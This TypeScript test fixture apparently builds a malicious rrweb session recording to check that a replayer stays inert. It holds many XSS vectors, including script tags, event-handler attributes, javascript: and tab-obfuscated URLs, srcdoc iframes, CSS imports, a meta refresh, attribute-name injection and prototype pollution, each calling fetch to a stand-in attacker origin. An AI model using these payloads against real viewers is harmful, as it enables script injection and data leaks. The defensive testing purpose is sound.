/** A node as the recorder would tell it. */
type Node = Readonly<Record<string, unknown>>;

/**
 * What a page sends that is not honest: events of the recorder's shape, with whatever might do something where they are shown.
 *
 * @param evil an origin that nobody is to ask anything
 */
export function hostileEvents(evil: string): {
  readonly whole: readonly Node[];
  readonly later: readonly Node[];
} {
  let id = 1;
  const next = (): number => (id += 1);
  const text = (textContent: string): Node => ({ type: 3, textContent, id: next() });
  const tag = (tagName: string, attributes: Node = {}, ...childNodes: readonly Node[]): Node => ({
    type: 2,
    tagName,
    attributes,
    childNodes,
    id: next(),
  });
  const run = (which: string): string =>
    `for(const w of [self,parent,top]){try{w.hacked='${which}'}catch{}};fetch('${evil}/run?${which}')`;
  const url = (which: string): string => `${evil}/${which}`;
  const script = (which: string): string => `javascript:${run(which)}`;
  const frame = (which: string): string => `<script>${run(which)}</script><img src="${url(which)}">`;

  const nodes = [
    tag('p', { id: 'seen' }, text('A page that means no good')),
    tag('script', {}, text(run('script'))),
    tag('SCRIPT', { src: url('script.js') }),
    tag('script', { type: 'module' }, text(run('module'))),
    tag('img', { src: 'x:', onerror: run('onerror'), ONLOAD: run('ONLOAD') }),
    tag('img', { src: url('img'), srcset: `${url('srcset')} 2x` }),
    tag('picture', {}, tag('source', { srcset: url('source') }), tag('img', { src: url('picture') })),
    tag('img', { rr_src: url('rr_src'), rr_dataURL: script('rr_dataURL') }),
    tag('svg', { onload: run('svg'), isSVG: true }, tag('script', {}, text(run('svg script')))),
    tag('svg', {}, tag('a', { 'xlink:href': script('svg a') }, tag('text', {}, text('svg link')))),
    tag('svg', {}, tag('use', { href: `${url('use')}#x` }), tag('image', { href: url('image') })),
    tag('svg', {}, tag('foreignObject', {}, tag('iframe', { srcdoc: frame('foreign') }))),
    tag('svg', {}, tag('a', {}, tag('animate', { attributeName: 'href', values: script('animate') }))),
    tag('iframe', { srcdoc: frame('srcdoc') }),
    tag('iframe', { src: script('iframe') }),
    tag('iframe', { src: url('iframe'), rr_src: url('iframe2') }),
    tag('frame', { src: url('frame') }),
    tag('object', { data: url('object'), type: 'text/html' }),
    tag('embed', { src: url('embed') }),
    tag('portal', { src: url('portal') }),
    tag('a', { href: script('a'), id: 'link' }, text('link')),
    tag('a', { href: url('top'), target: '_top' }, text('top')),
    tag('a', { href: url('ping'), ping: url('ping'), download: '' }, text('ping')),
    tag('a', { href: ` java\tscript:${run('tab')}` }, text('tab')),
    tag(
      'form',
      { action: url('form'), target: '_top' },
      tag('input', { name: 'a', autofocus: '', onfocus: run('focus') }),
    ),
    tag('form', { action: script('form') }, tag('button', { formaction: script('button') }, text('send'))),
    tag('input', { type: 'image', src: url('image-input') }),
    tag('video', { src: url('video'), poster: url('poster'), autoplay: '', onerror: run('video') }),
    tag('audio', { src: url('audio'), autoplay: '' }),
    tag('details', { open: '', ontoggle: run('toggle') }, text('details')),
    tag('marquee', { onstart: run('marquee') }, text('marquee')),
    tag('div', { style: `background: url(${url('style')})`, onclick: run('click') }, text('styled')),
    tag('div', { style: 'animation: x 1s', onanimationstart: run('animation') }, text('animated')),
    tag('template', { shadowrootmode: 'open' }, tag('script', {}, text(run('template')))),
    tag('noscript', {}, tag('img', { src: url('noscript') })),
    tag('math', {}, tag('maction', { 'xlink:href': script('math'), actiontype: 'statusline' }, text('math'))),
    tag('button', { popovertarget: 'x', onclick: run('button') }, text('button')),
    tag('x-element', { is: 'x', onclick: run('custom') }, text('custom')),
    tag('script/x', {}, text(run('name'))),
    tag('p', { 'onclick=x': run('attribute name'), '"><img src=x onerror=alert(1)>': '' }, text('names')),
  ];
  const head = tag(
    'head',
    {},
    tag('base', { href: evil, target: '_top' }),
    tag('meta', { 'http-equiv': 'refresh', content: `0;url=${url('refresh')}` }),
    tag('meta', { 'http-equiv': 'Content-Security-Policy', content: "script-src 'unsafe-inline'" }),
    tag('link', { rel: 'stylesheet', href: url('style.css') }),
    tag('link', {
      rel: 'stylesheet',
      _cssText: `@import url(${url('csstext')});p{background:url(${url('csstext2')})}`,
    }),
    tag('link', { rel: 'preload', as: 'script', href: url('preload') }),
    tag('link', { rel: 'icon', href: url('icon') }),
    tag('link', { rel: 'manifest', href: url('manifest') }),
    tag(
      'style',
      {},
      text(
        `@import "${url('import')}"; p { background: url(${url('css')}) } @font-face { font-family: x; src: url(${url('font')}) } * { font-family: x }`,
      ),
    ),
  );
  const body = tag('body', { onload: run('body'), background: url('background') }, ...nodes);
  const root = tag('html', { manifest: url('html') }, head, body);
  const doc: Node = {
    type: 0,
    childNodes: [{ type: 1, name: 'html', publicId: '', systemId: '', id: next() }, root],
    id: 1,
  };
  const now = Date.now();
  const at = (type: number, data: Node): Node => ({ type, data, timestamp: now });
  const change = (source: number, data: Node): Node => at(3, { source, ...data });
  const none = { texts: [], attributes: [], removes: [], adds: [] };
  const bodyId = Number(body['id']);
  /** Each node by itself, as the recorder tells what comes later. */
  const adds = (node: Node, parentId = bodyId): readonly Node[] => {
    const children = (node['childNodes'] ?? []) as readonly Node[];
    const own = 'childNodes' in node ? { ...node, childNodes: [] } : node;
    return [
      { parentId, nextId: null, node: own },
      ...children.flatMap((child) => adds(child, Number(node['id']))),
    ];
  };

  return {
    whole: [
      at(4, { href: script('href'), width: 800, height: 600 }),
      at(2, { node: doc, initialOffset: { top: 0, left: 0 } }),
    ],
    later: [
      change(0, {
        ...none,
        adds: [
          ...adds(tag('script', {}, text(run('added')))),
          ...adds(tag('img', { src: 'x:', onerror: run('added img') })),
          ...adds(tag('iframe', { srcdoc: frame('added frame') })),
        ],
      }),
      change(0, {
        ...none,
        attributes: [
          {
            id: bodyId,
            attributes: { onclick: run('changed'), style: { background: `url(${url('changed')})` } },
          },
          {
            id: Number(nodes[0]?.['id']),
            attributes: { onmouseover: run('over'), style: `background:url(${url('text')})` },
          },
        ],
      }),
      change(0, { ...none, isAttachIframe: true, adds: [{ parentId: bodyId, nextId: null, node: doc }] }),
      change(8, { id: bodyId, adds: [{ rule: `@import url(${url('rule')})`, index: 0 }] }),
      change(9, { id: bodyId, type: 0, commands: [{ property: 'constructor', args: [run('canvas')] }] }),
      change(10, { family: 'y', fontSource: `url(${url('fontsource')})`, buffer: false }),
      change(13, {
        id: bodyId,
        index: [0],
        set: { property: 'background', value: `url(${url('declared')})` },
      }),
      change(5, { id: Number(nodes[0]?.['id']), text: run('input'), isChecked: false }),
      at(5, { tag: 'x', payload: { run: run('custom') } }),
      at(6, { plugin: 'rrweb/console@1', payload: { level: 'log', payload: [run('plugin')] } }),
      change(99, { id: 'not a number', __proto__: { polluted: true } }),
      // It is still shown after all that.
      change(0, {
        ...none,
        adds: adds(tag('p', { id: 'last' }, text('The last of it'))),
      }),
    ],
  };
}
